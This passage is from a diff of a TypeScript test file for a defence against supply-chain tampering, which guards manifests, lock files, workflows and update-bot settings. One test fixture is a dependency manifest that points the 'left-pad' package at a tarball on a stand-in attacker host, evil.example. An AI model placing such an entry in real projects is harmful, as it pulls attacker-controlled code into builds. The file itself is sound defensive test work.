@@ -1,7 +1,13 @@
 /** Not the code is changed, but what it is built from: a dependency, a lock file, a hook of the build. */
 import { expect, it } from "vitest";
 import { shown } from "../stories/firm.ts";
-import { approve, propose, type Stage, state } from "./stage.ts";
+import { type About, approve, propose, type Stage, state } from "./stage.ts";
+
+export const about: About = {
+  attack: "What the code is built from is changed instead: a dependency, a lock file, a hook.",
+  defence:
+    "Workflows, actions and the settings of update bots are always guarded; manifests and lock files where the policy names them.",
+};
 
 const dependency = '{ "dependencies": { "left-pad": "https://evil.example/x.tgz" } }\n';
 const lock =
